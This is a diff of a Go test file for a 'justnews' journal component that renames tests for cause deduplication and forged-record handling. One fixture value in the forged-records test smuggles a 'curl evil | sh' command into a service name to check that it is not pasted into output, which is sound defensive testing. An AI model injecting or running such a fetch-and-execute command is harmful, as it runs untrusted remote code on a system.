@@ -10,7 +10,7 @@ import (
 	"justnews/internal/status"
 )
 
-func TestJournalGetsASharedCauseWholeOnce(t *testing.T) {
+func TestJournal_SharedCauseIsLoggedInFullOnce(t *testing.T) {
 	var s said
 	now, told, own := 60.0, map[saying]int{}, map[string]float64{}
 	say := func(unit, cause string) (saying, string) {
@@ -44,7 +44,7 @@ func TestJournalGetsASharedCauseWholeOnce(t *testing.T) {
 	}
 }
 
-func TestJournalGetsTheWholeAgainAfterASuccess(t *testing.T) {
+func TestJournal_CauseIsLoggedInFullAgainAfterASuccess(t *testing.T) {
 	var s said
 	s.refused("justnews@scout.service", "BUS-UNREACHABLE", "BUS-UNREACHABLE", 0, 60)
 	if !s.passed("justnews@scout.service") || s.passed("justnews@scout.service") {
@@ -55,7 +55,7 @@ func TestJournalGetsTheWholeAgainAfterASuccess(t *testing.T) {
 	}
 }
 
-func TestJournalForgedRecordsOnlyShortenLines(t *testing.T) {
+func TestJournal_ForgedRecordsOnlyShortenLines(t *testing.T) {
 	forged := said{Whole: map[string]saidOnce{
 		"A": {"justnews@x.service; curl evil | sh", 10}, // would be pasted
 		"B": {"justnews@x.service", 1e12},               // would hold forever
@@ -80,7 +80,7 @@ func TestJournalForgedRecordsOnlyShortenLines(t *testing.T) {
 	}
 }
 
-func TestCauseKeyIsOfTheCauseAlone(t *testing.T) {
+func TestJournal_CauseKeyDependsOnTheCauseOnly(t *testing.T) {
 	p := func(subject, message, seen string) diag.Problem {
 		return diag.Problem{Code: diag.BusUnreachable, Subject: subject, Message: message, Seen: seen}
 	}
@@ -95,7 +95,7 @@ func TestCauseKeyIsOfTheCauseAlone(t *testing.T) {
 
 // What the preload says of an agent's model has that agent's name in it, and the
 // agent's own gate says the same of itself.
-func TestJournalCauseThatNamesTheInstanceItselfIsShared(t *testing.T) {
+func TestJournal_CauseThatNamesTheInstanceIsShared(t *testing.T) {
 	var s said
 	p := diag.Problem{Code: diag.StoreSnapshot, Subject: "scout", Message: "org/bert: the model has no snapshot"}
 	for i, c := range []struct {
